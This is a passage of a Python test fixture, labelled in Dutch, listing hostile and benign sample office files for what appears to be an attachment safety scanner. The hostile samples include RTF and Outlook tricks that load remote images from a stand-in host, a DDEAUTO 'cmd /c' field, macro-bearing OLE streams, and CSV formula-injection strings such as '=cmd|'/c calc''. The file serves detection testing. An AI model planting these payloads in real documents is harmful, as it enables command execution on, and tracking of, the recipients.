        beside=rb'{\*\htmltag84 <img s}{\htmlrtf x}rc="https://ver.example/x"{\*\htmltag84 >}'
    ),
    "RTF van Outlook: letter van een andere bestemming": outlook(
        beside=rb'{\*\htmltag84 <img s}{\*\generator x}rc="https://ver.example/x"{\*\htmltag84 >}'
    ),
    "RTF van Outlook: lijst van plaatjes": outlook(rb'<img srcset="cid:x 1x, https://ver.example/x 2x">'),
    "RTF van Outlook: plaatje uit een stijl": outlook(rb'<p style="background:image-set(\'27https://ver.example/x\'27)">'),
    "RTF van Outlook: veld": outlook(beside=rb'{\field{\*\fldinst INCLUDEPICTURE "https://ver.example/x"}}'),
    "Word 2003: DDE": doc("DDEAUTO cmd /c"),
    "Word 2003: INCLUDETEXT": doc(f'INCLUDETEXT "{FAR}"'),
    "Word 2003: LINK": doc(f'LINK Excel.Sheet.8 "{FAR}"'),
    "Word 2003: onbekende map": (DOC, samples.ole({"WordDocument": bytes(64), "Programma": b"MZ"})),
    "Word 2003: macro's": (DOC, samples.ole({"WordDocument": bytes(64), "_VBA_PROJECT_CUR": b"x"})),
    "Excel 2003: blad met macro's": (XLS, samples.ole({"Workbook": samples.book(bytes(5) + b"\1")})),
}
OLD_HONEST = {
    "RTF": rtf(b""),
    "RTF: sjabloon bij naam": rtf(rb"{\*\template Normal.dotm}"),
    "RTF: bladnummer": rtf(rb"{\field{\*\fldinst PAGE}{\fldrslt 1}}"),
    "RTF: koppeling": rtf(rb'{\field{\*\fldinst HYPERLINK "https://www.nvog.nl/"}{\fldrslt klik}}'),
    "RTF: van Word": (RTF, WORD_RTF),
    "RTF: van LibreOffice": (RTF, LIBRE_RTF),
    "RTF: van WordPad": (RTF, WORDPAD_RTF),
    "RTF: van TextEdit": (RTF, TEXTEDIT_RTF),
    "RTF van Outlook": outlook(),
    "RTF van Outlook: koppeling": outlook(
        rb'<a href="https://www.nvog.nl/" title="Klik om te volgen">',
        rb"</a>",
        beside=rb'{\field{\*\fldinst{\htmlrtf HYPERLINK "https://www.nvog.nl/"\htmlrtf0}}{\fldrslt NVOG}}',
    ),
    "RTF van Outlook: koppeling langs een controle": outlook(
        rb'<a href="https://eur02.safelinks.example/?url=https%3A%2F%2Fwww.nvog.nl&amp;data=05%7C02&amp;code=1&amp;action=x">',
        rb"</a>",
    ),
    "RTF van Outlook: adres": outlook(rb'<a href="mailto:anna@haven.example">', rb"</a>"),
    "RTF van Outlook: plaatje uit het bericht": outlook(rb'<img width=10 src="cid:image001.png@01D8">'),
    "RTF van Outlook: tabel": outlook(
        rb'<table border=1 style="border:none"><tr><td bgcolor=white>', rb"&nbsp;</td></tr></table>"
    ),
    "RTF van Outlook: bij een bericht met delen": outlook(beside=rb'{\*\mhtmltag84 <a href="https://www.nvog.nl/">}'),
    "RTF: met een formulier": rtf(
        rb"{\field{\*\fldinst FORMTEXT {\*\formfield{\fftype0{\*\ffname Tekst1}{\*\ffdeftext -}}}}{\fldrslt x}}"
    ),
    "RTF: vorm": shape(rb"shapeType", rb"202"),
    "RTF: punten van een vorm": shape(rb"pVerticies", rb"8;3;(0,0);(-10,0);(10,10)"),
    "RTF: plaatje van de eigen computer": shape(rb"pibName", rb"C:\\plaatjes\\logo.png"),
    "RTF: beschrijving van een plaatje": shape(rb"wzDescription", rb"Logo van https://www.nvog.nl/"),
    "RTF: klik op een vorm": shape(rb"pihlShape", rb"{\*\hl{\hlsrc https://www.nvog.nl/}}"),
    "RTF: nieuwe vorm": drawn(rels("image", "media/image1.png")),
    "RTF: letters met twee tekens": rtf(rb"{\uc2\u8364 ??}{\upr{\pard x}{\*\ud{\pard x}}}"),
    "Word 2003": (DOC, samples.ole({"WordDocument": bytes(64)})),
    "Word 2003: bladnummer": doc("PAGE"),
    "Word 2003: koppeling": doc('HYPERLINK "https://www.nvog.nl/"'),
    "Excel 2003": (XLS, samples.ole({"Workbook": samples.book(bytes(6))})),
}


def together(**families):
    return {f"{family}: {name}": file for family, files in families.items() for name, file in files.items()}


HOSTILE = together(pdf=PDF_HOSTILE, office=OFFICE_HOSTILE, odt=ODT_HOSTILE, oud=OLD_HOSTILE)
HONEST = together(pdf=PDF_HONEST, office=OFFICE_HONEST, odt=ODT_HONEST, oud=OLD_HONEST)
# Tables in text: whether their name makes a program for tables open them.
TABLES = {
    "=cmd|'/c calc'!A0;1\n": False, "naam;=1+1\n": False, "@SUM(A1)\n": False, "+cmd|x\n": False,
    '"=HYPERLINK(""x"")"\n': False,
          "naam;waarde\nHb;4,2\n": True, "-1;+2;-3,5\n": True, "- ;–\n": True}  # fmt: skip
